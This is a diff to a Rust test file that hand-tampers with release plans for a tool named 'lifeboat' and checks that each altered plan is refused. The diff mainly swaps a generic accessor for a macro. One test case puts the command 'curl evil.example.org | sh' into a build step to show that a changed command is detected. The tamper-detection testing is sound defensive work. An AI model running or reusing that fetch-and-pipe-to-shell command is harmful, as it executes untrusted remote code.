@@ -1,9 +1,7 @@
 //! Plans that were changed by hand are refused, each for the promise that it breaks.
 
 use lifeboat::plan::{Plan, check};
-use lifeboat::step::{
-    Build, Bundle, Exposure, Gate, Isolation, Kind, PlannedStep, Point, Promote, Quorum, StepId, StepKey, Test,
-};
+use lifeboat::step::{Exposure, Isolation, PlannedStep, Quorum, Step, StepId, StepKey};
 use proptest::prelude::*;
 
 use crate::model::configs::{Shape, shapes};
@@ -14,8 +12,13 @@ fn step<'a>(plan: &'a mut Plan, id: &str) -> &'a mut PlannedStep {
 }
 
 /// A step's data, to be changed.
-fn data<'a, K: Kind>(plan: &'a mut Plan, id: &str) -> &'a mut K {
-    K::of_mut(&mut step(plan, id).step).unwrap_or_else(|| panic!("{id} is not a {}", K::NAME))
+macro_rules! data {
+    ($plan:ident, $kind:ident, $id:expr) => {
+        match &mut step($plan, $id).step {
+            Step::$kind(data) => data,
+            other => panic!("{} is {other:?}", $id),
+        }
+    };
 }
 
 fn unneed(plan: &mut Plan, of: &str, need: &str) {
@@ -32,7 +35,7 @@ fn need(plan: &mut Plan, of: &str, need: &str) {
 }
 
 fn point_at_nothing(plan: &mut Plan) {
-    let point = data::<Point>(plan, "point/s0");
+    let point = data!(plan, Point, "point/s0");
     point.lines.clear();
 }
 
@@ -107,36 +110,36 @@ const CHANGES: &[Change] = &[
     }),
     ("nobody must approve", "somebody must approve", |p| p.threshold = 0),
     ("a gate that asks for fewer", "its threshold and embargo are the plan's", |p| {
-        let gate = data::<Gate>(p, "gate");
+        let gate = data!(p, Gate, "gate");
         gate.threshold = 1;
     }),
     ("a gate that forgets the embargo", "its threshold and embargo are the plan's", |p| {
-        let gate = data::<Gate>(p, "gate");
+        let gate = data!(p, Gate, "gate");
         gate.not_before = None;
     }),
     ("a gate that shows one line's sums only", "people approve every line's sums", |p| {
-        let gate = data::<Gate>(p, "gate");
+        let gate = data!(p, Gate, "gate");
         gate.checksums.pop();
     }),
     ("a gate that hides a carried fix", "people approve the commits", |p| {
-        let gate = data::<Gate>(p, "gate");
+        let gate = data!(p, Gate, "gate");
         gate.carries.clear();
     }),
     ("a test with network", "tests run without network", |p| {
-        let test = data::<Test>(p, "test/release-1.0.0/t0");
+        let test = data!(p, Test, "test/release-1.0.0/t0");
         test.job.isolation = Isolation::Network;
     }),
     ("a step that reads what it does not wait for", "a step waits for everything that it reads", |p| {
         // Every other line's sums are there too, but not this one's.
-        let bundle = data::<Bundle>(p, "bundle/release-1.0.0");
+        let bundle = data!(p, Bundle, "bundle/release-1.0.0");
         bundle.prepare = id("prepare/release-3.0.0");
     }),
     ("a step that reads another line's outcome", "made for its own line", |p| {
-        let promote = data::<Promote>(p, "promote/s0/release-1.0.0");
+        let promote = data!(p, Promote, "promote/s0/release-1.0.0");
         promote.0.seal = Some(id("seal/release-3.0.0"));
     }),
     ("a step that reads the wrong kind", "it reads what `checksum` makes", |p| {
-        let promote = data::<Promote>(p, "promote/s0/release-1.0.0");
+        let promote = data!(p, Promote, "promote/s0/release-1.0.0");
         promote.0.checksum = id("bundle/release-1.0.0");
     }),
     ("another base than reviewed", "what is prepared is what the plan shows", |p| {
@@ -160,7 +163,7 @@ const CHANGES: &[Change] = &[
         step(p, "build/release-1.0.0/t0").key = StepKey(lifeboat::model::Sha256::of(b"another"));
     }),
     ("another command", "a step's key is the digest of its inputs", |p| {
-        let build = data::<Build>(p, "build/release-1.0.0/t0");
+        let build = data!(p, Build, "build/release-1.0.0/t0");
         build.job.run = vec!["curl evil.example.org | sh".to_owned()];
     }),
     ("no format", "its format is one of 1 to", |p| p.format = 0),
@@ -188,7 +191,7 @@ const AUTOMATED: &[Change] = &[
 ];
 
 fn quorum<'a>(plan: &'a mut Plan, has: &str) -> &'a mut Quorum {
-    data::<Quorum>(plan, &format!("quorum/{has}"))
+    data!(plan, Quorum, &format!("quorum/{has}"))
 }
 
 /// The same where three stores count, `c0` to `c2`, and none is required.
